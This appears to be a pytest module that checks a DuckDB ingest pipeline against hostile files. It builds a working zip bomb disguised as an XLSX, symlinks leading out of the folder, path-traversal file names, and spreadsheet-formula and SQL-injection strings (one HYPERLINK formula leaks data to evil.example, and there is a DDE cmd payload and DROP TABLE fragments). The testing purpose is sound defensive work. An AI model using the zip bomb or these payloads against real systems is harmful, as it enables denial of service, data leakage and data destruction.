"""Hostile files in a landing folder: each is rejected, or loaded safely, with a
clear message; the good files next to them still load; nothing is lost
(rows_read = rows_loaded + rows_rejected); memory stays bounded; values that look like
formulas or SQL are stored literally; a symbolic link is never followed.

Every hostile file is generated in ``tmp_path`` by this module (nothing committed): the
zip bomb is a real one (a worksheet that decompresses to gigabytes), written in a second
by repeating one independently compressed DEFLATE segment.
"""

from __future__ import annotations

import hashlib
import json
import os
import struct
import subprocess
import sys
import time
import unicodedata
import zlib
from pathlib import Path

import duckdb
import pytest
import xlsxwriter

from pipelines.config import PROJECT_ROOT
from pipelines.ingest import ingest_source, lists_unrecorded_names
from pipelines.ingest.readers import MAX_LINE_BYTES, check_archive, check_line_lengths
from pipelines.ingest.rules import MAX_CELL_CHARS
from tests.fixtures.ingest.builders import SALT, assert_reconciled, ledger, raw_rows, rejections

HEAD = "province,district,commune,year,group,in_difficulty\n"
SECRET_YEAR = 2011  # only the file outside the landing folder has rows of this year

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "@SUM(A1:A9)",
    "-2+3",
]
SQL_FRAGMENTS = [
    "'; drop table raw.training; --",
    "Robert'); DROP TABLE raw.beneficiaries;--",
    '"; delete from audit.ingested_files; --',
]

# --- a real zip bomb disguised as an XLSX workbook ---------------------------------------

_CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Types xmlns="http://schemas.openxmlformats.org/'
    b'package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
    b'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/'
    b'workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    b'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.'
    b'spreadsheetml.worksheet+xml"/></Types>'
)
_RELS = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxmlformats'
    b'.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
    b'officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>'
)
_WORKBOOK = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<workbook xmlns="http://schemas.openxmlformats.org/'
    b'spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    b'<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
_WORKBOOK_RELS = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxmlformats'
    b'.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
    b'officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'
)
_SHEET_HEAD = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet xmlns="http://schemas.openxmlformats.org/'
    b'spreadsheetml/2006/main"><sheetData><row><c t="inlineStr"><is><t>province</t></is></c><c t="inlineStr"><is>'
    b'<t>year</t></is></c><c t="inlineStr"><is><t>group</t></is></c><c t="inlineStr"><is><t>in_difficulty</t></is>'
    b'</c></row>'
)
_SHEET_ROW = (
    b'<row><c t="inlineStr"><is><t>96</t></is></c><c><v>2024</v></c><c t="inlineStr"><is><t>elderly</t></is></c>'
    b'<c><v>1</v></c></row>'
)
_SHEET_TAIL = b"</sheetData></worksheet>"


def _deflate(data: bytes, final: bool) -> bytes:
    co = zlib.compressobj(9, zlib.DEFLATED, -15)
    return co.compress(data) + co.flush(zlib.Z_FINISH if final else zlib.Z_FULL_FLUSH)


def write_zip_bomb(path: Path, sheet_bytes: int, declared_size: int | None = None) -> int:
    """An XLSX-shaped ZIP whose worksheet is a valid sheet of ``sheet_bytes`` bytes (a few
    million rows). A fully flushed DEFLATE segment does not refer back to earlier data,
    so one compressed 64 MiB chunk repeated N times is a valid stream of N chunks.
    ``declared_size``: the size the ZIP directory states for the sheet (a lie if given).
    Returns the real uncompressed size of the sheet."""
    chunk = _SHEET_ROW * ((64 << 20) // len(_SHEET_ROW))
    repeats = max(1, sheet_bytes // len(chunk))
    segment = _deflate(chunk, final=False)
    head, tail = _deflate(_SHEET_HEAD, final=False), _deflate(_SHEET_TAIL, final=True)
    crc = zlib.crc32(_SHEET_HEAD)
    for _ in range(repeats):
        crc = zlib.crc32(chunk, crc)
    crc = zlib.crc32(_SHEET_TAIL, crc)
    size = len(_SHEET_HEAD) + repeats * len(chunk) + len(_SHEET_TAIL)
    parts = [
        (name, [_deflate(data, final=True)], zlib.crc32(data), len(data))
        for name, data in (
            ("[Content_Types].xml", _CONTENT_TYPES),
            ("_rels/.rels", _RELS),
            ("xl/workbook.xml", _WORKBOOK),
            ("xl/_rels/workbook.xml.rels", _WORKBOOK_RELS),
        )
    ]
    parts.append(("xl/worksheets/sheet1.xml", [head, *[segment] * repeats, tail], crc,
                  size if declared_size is None else declared_size))
    central, offset = [], 0
    with open(path, "wb") as fh:
        for name, chunks, crc32, usize in parts:
            raw_name = name.encode()
            csize = sum(len(c) for c in chunks)
            local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, crc32, csize, usize, len(raw_name), 0)
            fh.write(local + raw_name)
            for c in chunks:
                fh.write(c)
            central.append(
                struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x21, crc32, csize, usize,
                            len(raw_name), 0, 0, 0, 0, 0, offset) + raw_name
            )
            offset += len(local) + len(raw_name) + csize
        directory = b"".join(central)
        fh.write(directory)
        fh.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(parts), len(parts), len(directory), offset, 0))
    return size


# --- the corpus ---------------------------------------------------------------------------

def _rows(*rows: tuple) -> str:
    return HEAD + "".join(",".join(str(c) for c in r) + "\n" for r in rows)


def _quote(value: str) -> str:
    return '"' + value.replace('"', '""') + '"'


ODD_NAMES = {
    # file name -> the year of its single row (so each file's row is recognisable)
    "x..y.csv": 2012,
    "bao cao  2013 (ban sua).csv": 2013,
    "Báo cáo Cà Mau 2014.csv": 2014,  # NFC
    unicodedata.normalize("NFD", "Báo cáo Đồng Tháp 2015.csv"): 2015,  # NFD, as macOS writes names
    "-rf --no-preserve-root.csv": 2016,
    "L" * 240 + ".csv": 2017,
    "'; drop table raw.training; --.csv": 2018,
    '=HYPERLINK("evil.example","x").csv': 2019,
    "report..%2F..%2Fetc%2Fpasswd.csv": 2020,
}
IGNORED_HIDDEN = "..%2F..%2Fsecret.csv"  # starts with '.': a hidden file, not a file of the folder
OUTSIDE_NAME = "linked_secret.csv"
NOT_UTF8_NAME = b"b\xe1o_c\xe1o_cp1258.csv"  # 'báo_cáo' encoded in Windows-1258


def _write_wide_xlsx(path: Path, columns: int) -> None:
    wb = xlsxwriter.Workbook(str(path))
    ws = wb.add_worksheet()
    header = ["province", "year", "group", "in_difficulty"] + [f"x{i}" for i in range(columns - 4)]
    for c, h in enumerate(header):
        ws.write_string(0, c, h)
    for c, v in enumerate(["Cà Mau", 2021, "elderly", 9]):
        ws.write(1, c, v)
    wb.close()


def make_corpus(tmp_path: Path) -> tuple[Path, Path]:
    """The beneficiaries landing folder with every hostile file next to good ones, and
    the file outside the raw folder that a symlink points to."""
    folder = tmp_path / "raw" / "beneficiaries"
    folder.mkdir(parents=True)
    outside = tmp_path / "outside" / "secret.csv"
    outside.parent.mkdir()
    outside.write_text(_rows(("Cà Mau", "", "", SECRET_YEAR, "elderly", 77)), encoding="utf-8")

    def text(name: str, content: str) -> None:
        (folder / name).write_text(content, encoding="utf-8")

    # good files, which must load whatever their neighbours are
    text("good_2024.csv", _rows(("Cà Mau", "", "", 2024, "elderly", 100), ("Cà Mau", "", "", 2024, "disabled", 50)))
    for name, year in ODD_NAMES.items():
        text(name, _rows(("Cà Mau", "", "", year, "elderly", year - 2000)))
    # wrong extensions
    text("ghi_chu.txt", "ghi chú")
    (folder / "bao_cao_cu.xls").write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512)
    text("bao_cao.csv.exe", "MZ")
    text("README", "no extension")
    # zip bombs: honest directory (rejected from the directory) and lying directory
    write_zip_bomb(folder / "bomb.xlsx", 1 << 30)
    write_zip_bomb(folder / "bomb_lying_directory.xlsx", 1 << 30, declared_size=4096)
    # 10,000 columns, as CSV and as XLSX
    wide = ",".join(["province", "year", "group", "in_difficulty"] + [f"x{i}" for i in range(9_996)])
    text("wide_10000_columns.csv", wide + "\nCà Mau,2021,elderly,9\n")
    _write_wide_xlsx(folder / "wide_10000_columns.xlsx", 10_000)
    # NUL bytes
    (folder / "nul_bytes.csv").write_bytes(_rows(("Cà Mau", "", "", 2022, "elderly", 1)).encode() + b"\x00\x00x\n")
    # a line over the limit (2 MiB here; the 100 MB line is in the memory test) after a good row
    text("long_line.csv", _rows(("Cà Mau", "", "", 2022, "elderly", 1)) + "Cà Mau," + "A" * (2 * MAX_LINE_BYTES) + "\n")
    # a cell over the limit: its row is rejected, the other row loads
    text("long_cell.csv", _rows(("Cà Mau", "D" * (MAX_CELL_CHARS + 1), "", 2023, "elderly", 3),
                                ("Cà Mau", "", "", 2023, "disabled", 4)))
    # formulas and SQL fragments in text cells: stored literally
    rows = [("Cà Mau", _quote(v), "", 2010, "elderly", i + 1) for i, v in enumerate(FORMULAS)]
    rows += [("Cà Mau", "", _quote(v), 2010, "disabled", i + 1) for i, v in enumerate(SQL_FRAGMENTS[:1])]
    text("formulas.csv", _rows(*rows))
    text("sql_fragments.csv", _rows(*[("Cà Mau", _quote(v), "", 2025, "children", i + 1)
                                      for i, v in enumerate(SQL_FRAGMENTS)]))
    # names that only look like paths, and links out of the folder
    text(IGNORED_HIDDEN, _rows(("Cà Mau", "", "", 2008, "elderly", 1)))
    (folder / OUTSIDE_NAME).symlink_to(outside)
    (folder / "dangling_link.csv").symlink_to(tmp_path / "does-not-exist.csv")
    (folder / "linked_dir.csv").symlink_to(outside.parent, target_is_directory=True)
    with open(os.fsencode(folder) + b"/" + NOT_UTF8_NAME, "wb") as fh:
        fh.write(_rows(("Cà Mau", "", "", 2007, "elderly", 1)).encode())
    return folder, outside


# (status, fragment of the message) expected for each hostile file
EXPECTED = {
    "ghi_chu.txt": ("not_read", "unsupported file type '.txt'"),
    "bao_cao_cu.xls": ("not_read", "unsupported file type '.xls'"),
    "bao_cao.csv.exe": ("not_read", "unsupported file type '.exe'"),
    "README": ("not_read", "unsupported file type without extension"),
    "bomb.xlsx": ("rejected", "would expand to 1,024 MiB (at most 200 MiB uncompressed"),
    "bomb_lying_directory.xlsx": ("rejected", "expands beyond what the ZIP directory declares"),
    "wide_10000_columns.csv": ("rejected", "too many columns: the header row has 10,000 cells (at most 1,000"),
    "wide_10000_columns.xlsx": ("rejected", "too many columns: the header row has 10,000 cells (at most 1,000"),
    "nul_bytes.csv": ("rejected", "it contains binary data"),
    "long_line.csv": ("rejected", f"line 3 is longer than {MAX_LINE_BYTES:,} bytes"),
    OUTSIDE_NAME: ("not_read", "symbolic link: not read"),
    "dangling_link.csv": ("not_read", "symbolic link: not read"),
    "linked_dir.csv": ("not_read", "symbolic link: not read"),
    NOT_UTF8_NAME.decode("utf-8", "backslashreplace"): ("not_read", "file name is not valid UTF-8"),
    "long_cell.csv": ("loaded", None),
    "formulas.csv": ("loaded", None),
    "sql_fragments.csv": ("loaded", None),
    "good_2024.csv": ("loaded", None),
    **{name: ("loaded", None) for name in ODD_NAMES},
}


@pytest.fixture(scope="module")
def ingested(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("hostile")
    folder, outside = make_corpus(tmp)
    con = duckdb.connect()
    started = time.monotonic()
    report = ingest_source(con, "beneficiaries", folder, SALT)
    elapsed = time.monotonic() - started
    yield {"con": con, "report": report, "folder": folder, "outside": outside, "elapsed": elapsed}
    con.close()


def test_each_hostile_file_is_rejected_or_loaded_with_a_clear_message(ingested):
    con = ingested["con"]
    got = {name: (status, message) for name, status, _, _, _, message in ledger(con)}
    assert set(got) == set(EXPECTED), "files recorded in the ledger"
    for name, (status, fragment) in EXPECTED.items():
        assert got[name][0] == status, (name, got[name])
        if fragment is not None:
            assert fragment in got[name][1], (name, got[name][1])
    assert IGNORED_HIDDEN not in got  # hidden files are not files of the folder (documented rule)
    assert ingested["elapsed"] < 60, "hostile files are refused quickly"


def test_nothing_is_lost_and_good_files_still_load(ingested):
    con = ingested["con"]
    assert_reconciled(con)  # rows_read = rows_loaded + rows_rejected, and the counts match the tables
    for name, read, loaded, rejected in con.execute(
        "select file_name, rows_read, rows_loaded, rows_rejected from audit.ingested_files"
    ).fetchall():
        assert read == loaded + rejected, name
    assert raw_rows(con, "beneficiaries", "year, group_code, in_difficulty", "good_2024.csv") == [
        (2024, "elderly", 100), (2024, "disabled", 50)
    ]
    for name, year in ODD_NAMES.items():  # the file name is stored exactly as it is on disk
        assert raw_rows(con, "beneficiaries", "year, in_difficulty", name) == [(year, year - 2000)], name
    # an over-long cell rejects its row only, without quoting the value
    assert raw_rows(con, "beneficiaries", "group_code", "long_cell.csv") == [("disabled",)]
    [(row, column, reason)] = rejections(con, "long_cell.csv")
    assert (row, column) == (1, "district")
    assert reason == f"district: value too long ({MAX_CELL_CHARS + 1} characters, at most {MAX_CELL_CHARS:,})"


def test_a_symlink_out_of_the_raw_folder_is_not_read(ingested):
    con = ingested["con"]
    secret_sha = hashlib.sha256(ingested["outside"].read_bytes()).hexdigest()
    assert con.execute("select count(*) from raw.beneficiaries where year = ?", [SECRET_YEAR]).fetchone() == (0,)
    assert con.execute("select count(*) from audit.ingested_files where sha256 = ?", [secret_sha]).fetchone() == (0,)
    [(status, read, message)] = con.execute(
        "select status, rows_read, message from audit.ingested_files where file_name = ?", [OUTSIDE_NAME]
    ).fetchall()
    assert (status, read) == ("not_read", 0)
    assert "copy it here instead of linking" in message


def test_formulas_and_sql_fragments_are_stored_literally_and_no_table_is_dropped(ingested):
    con = ingested["con"]
    districts = [d for (d,) in raw_rows(con, "beneficiaries", "district", "formulas.csv") if d]
    assert districts == FORMULAS
    assert raw_rows(con, "beneficiaries", "commune", "formulas.csv")[-1] == (SQL_FRAGMENTS[0],)
    assert [d for (d,) in raw_rows(con, "beneficiaries", "district", "sql_fragments.csv")] == SQL_FRAGMENTS
    tables = {f"{s}.{t}" for s, t in con.execute("select schema_name, table_name from duckdb_tables()").fetchall()}
    assert {"raw.beneficiaries", "raw.facilities", "raw.training", "audit.ingested_files",
            "audit.rejected_rows", "audit.ingest_file_state"} <= tables
    assert con.execute("select count(*) from audit.ingested_files").fetchone()[0] == len(EXPECTED)


def test_a_second_run_over_the_hostile_folder_changes_nothing(ingested):
    con = ingested["con"]
    before = ledger(con)
    report = ingest_source(con, "beneficiaries", ingested["folder"], SALT)
    assert ledger(con) == before  # rejected files are not recorded again
    assert all(not f.recorded for f in report.files)


def test_hostile_values_in_the_other_sources(tmp_path):
    """Formula-looking facility names (XLSX text cells) and SQL in training ids load literally."""
    fac = tmp_path / "raw" / "facilities"
    fac.mkdir(parents=True)
    wb = xlsxwriter.Workbook(str(fac / "co_so_2024.xlsx"), {"strings_to_formulas": False})
    ws = wb.add_worksheet()
    for c, h in enumerate(["facility_id", "name", "province", "year", "unit_type", "status"]):
        ws.write_string(0, c, h)
    names = [FORMULAS[0], FORMULAS[1], SQL_FRAGMENTS[0]]
    for r, name in enumerate(names, start=1):
        for c, v in enumerate([f"HX-{r}", name, "Cà Mau", "2024", "sa_elderly", "active"]):
            ws.write_string(r, c, v)
    wb.close()
    tr = tmp_path / "raw" / "training"
    tr.mkdir()
    (tr / "dao_tao.csv").write_text(
        "record_id,person_id,full_name,province,end_date\n"
        f"{_quote(SQL_FRAGMENTS[0])},001099000001,Nguyễn Văn Thử,Cà Mau,30/06/2024\n",
        encoding="utf-8",
    )
    con = duckdb.connect()
    ingest_source(con, "facilities", fac, SALT)
    ingest_source(con, "training", tr, SALT)
    assert_reconciled(con)
    assert raw_rows(con, "facilities", "name") == [(n,) for n in names]
    assert raw_rows(con, "training", "record_id") == [(SQL_FRAGMENTS[0],)]


# --- memory: the zip bomb and the 100 MB line, each in a subprocess ------------------------

INGEST = """
import json, sys, duckdb
from pipelines.ingest import ingest_source
con = duckdb.connect()
ingest_source(con, sys.argv[2], sys.argv[1], "salt")
print(json.dumps(con.execute(
    "select file_name, status, rows_read, rows_loaded, rows_rejected, message"
    " from audit.ingested_files order by file_name").fetchall()))
"""
# Runs INGEST as its own child, so RUSAGE_CHILDREN is the peak RSS of that one process.
MEASURE = """
import json, resource, subprocess, sys
p = subprocess.run([sys.executable, "-c", sys.argv[1], *sys.argv[2:]], capture_output=True, text=True, timeout=240)
print(json.dumps({"rc": p.returncode, "out": p.stdout, "err": p.stderr[-4000:],
                  "maxrss_mib": resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss / 1024}))
"""
RSS_LIMIT_MIB = 1536


def _ingest_in_subprocess(folder: Path, source: str) -> tuple[list, float]:
    env = {**os.environ, "PYTHONPATH": str(PROJECT_ROOT)}
    done = subprocess.run(
        [sys.executable, "-c", MEASURE, INGEST, str(folder), source],
        capture_output=True, text=True, cwd=PROJECT_ROOT, env=env, timeout=300,
    )
    result = json.loads(done.stdout)
    assert result["rc"] == 0, result["err"]
    return json.loads(result["out"]), result["maxrss_mib"]


@pytest.mark.parametrize("kind", ["zip_bomb", "line_of_100_mb"])
def test_memory_stays_bounded(tmp_path, kind):
    folder = tmp_path / "beneficiaries"
    folder.mkdir()
    (folder / "a_good.csv").write_text(_rows(("Cà Mau", "", "", 2024, "elderly", 5)), encoding="utf-8")
    if kind == "zip_bomb":
        # 3.3 GB of worksheet XML in 11 MB; fastexcel would hold every cell in memory.
        size = write_zip_bomb(folder / "b_bomb.xlsx", 3_300 << 20)
        assert size > 3 << 30 and (folder / "b_bomb.xlsx").stat().st_size < 20 << 20
        fragment = f"would expand to {size / 2**20:,.0f} MiB"
    else:
        with open(folder / "b_long_line.csv", "w", encoding="utf-8") as fh:
            fh.write(HEAD + "Cà Mau,,,2023,elderly,1\n" * 40)  # past the 30 rows scanned for the header
            fh.write("Cà Mau," + "A" * 100_000_000 + ",,2023,disabled,1\n")
        fragment = f"line 42 is longer than {MAX_LINE_BYTES:,} bytes"
    started = time.monotonic()
    files, maxrss_mib = _ingest_in_subprocess(folder, "beneficiaries")
    elapsed = time.monotonic() - started
    by_name = {f[0]: f[1:] for f in files}
    assert by_name["a_good.csv"][:4] == ["loaded", 1, 1, 0]
    bad = [n for n in by_name if n.startswith("b_")][0]
    status, read, loaded, rejected, message = by_name[bad]
    assert (status, read, loaded, rejected) == ("rejected", 0, 0, 0)
    assert fragment in message, message
    assert maxrss_mib < RSS_LIMIT_MIB, f"peak RSS {maxrss_mib:.0f} MiB"
    assert elapsed < 120


def test_the_limits_pass_every_sample_file():
    """The caps reject only what no district report looks like: every file of the sample
    passes them (the e2e tests load them all)."""
    files = sorted((PROJECT_ROOT / "data" / "raw").glob("*/*.*"))
    assert len(files) > 30
    for path in files:
        data = path.read_bytes()
        if path.suffix == ".xlsx":
            check_archive(data)
        else:
            check_line_lengths(data)


def test_a_name_that_spells_the_ledger_name_of_a_non_utf8_name_is_not_written_twice(tmp_path):
    # 'b\xe1o…' (not UTF-8) is shown in the ledger as the text 'b\\xe1o…', which a real
    # file can be called. Both are in one batch: the later (in listing order) replaces the
    # earlier, as when they are ingested one after the other, and one version is current.
    folder = tmp_path / "beneficiaries"
    folder.mkdir()
    shown = NOT_UTF8_NAME.decode("utf-8", "backslashreplace")
    (folder / shown).write_text(_rows(("Cà Mau", "", "", 2007, "elderly", 1)), encoding="utf-8")
    with open(os.fsencode(folder) + b"/" + NOT_UTF8_NAME, "wb") as fh:
        fh.write(_rows(("Cà Mau", "", "", 2007, "disabled", 2)).encode())
    con = duckdb.connect()
    report = ingest_source(con, "beneficiaries", folder, SALT)
    assert [(f.file_name, f.status) for f in report.files] == [(shown, "loaded"), (shown, "not_read")]
    assert con.execute("select file_name, status from audit.ingest_file_state").fetchall() == [(shown, "not_read")]
    assert raw_rows(con, "beneficiaries", "file_name") == []
    assert_reconciled(con)


def test_a_non_utf8_name_already_in_the_ledger_is_no_new_file(tmp_path):
    # the ingest assets start the Great Expectations import early when a folder lists a
    # name the ledger lacks; the ledger holds a non-UTF-8 name as shown ('\xNN'), so that
    # is the name compared, or every build would count the file as new
    folder = tmp_path / "beneficiaries"
    folder.mkdir()
    with open(os.fsencode(folder) + b"/" + NOT_UTF8_NAME, "wb") as fh:
        fh.write(_rows(("Cà Mau", "", "", 2007, "disabled", 2)).encode())
    con = duckdb.connect()
    assert lists_unrecorded_names(con, "beneficiaries", folder)  # no ledger yet
    ingest_source(con, "beneficiaries", folder, SALT)
    assert not lists_unrecorded_names(con, "beneficiaries", folder)
    (folder / "later.csv").write_text(_rows(("Cà Mau", "", "", 2008, "elderly", 1)), encoding="utf-8")
    assert lists_unrecorded_names(con, "beneficiaries", folder)
    (folder / "later.csv").rename(folder / "~$later.csv")  # an upload in progress is no new file
    assert not lists_unrecorded_names(con, "beneficiaries", folder)
